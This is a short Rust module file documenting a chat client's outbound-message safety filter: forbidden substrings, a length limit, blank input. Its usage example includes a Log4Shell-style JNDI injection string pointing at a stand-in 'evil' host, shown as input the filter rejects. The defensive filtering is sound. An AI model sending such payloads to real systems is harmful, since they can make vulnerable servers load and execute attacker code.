//! Content safety for outbound chat.
//!
//! Every user-originated message passes through [`SafetyFilter`] before it
//! reaches the wire. Some characters crash or exploit server-side plugins,
//! and over-long messages get the client kicked.
//!
//! # Rules
//!
//! | Rule                  | Rejects                                  |
//! |-----------------------|------------------------------------------|
//! | `forbidden_substring` | Any configured substring (default `$`)   |
//! | `too_long`            | More than `max_length` characters (256)  |
//! | `blank`               | Empty or whitespace-only input           |
//!
//! # Usage
//!
//! ```rust,ignore
//! use tether::security::SafetyFilter;
//!
//! let filter = SafetyFilter::new(vec!["$".to_string()], 256);
//! assert!(filter.is_safe("hello"));
//! assert!(!filter.is_safe("${jndi:ldap://evil}"));
//! ```

mod filter;

pub use filter::{FilterRule, SafetyFilter};
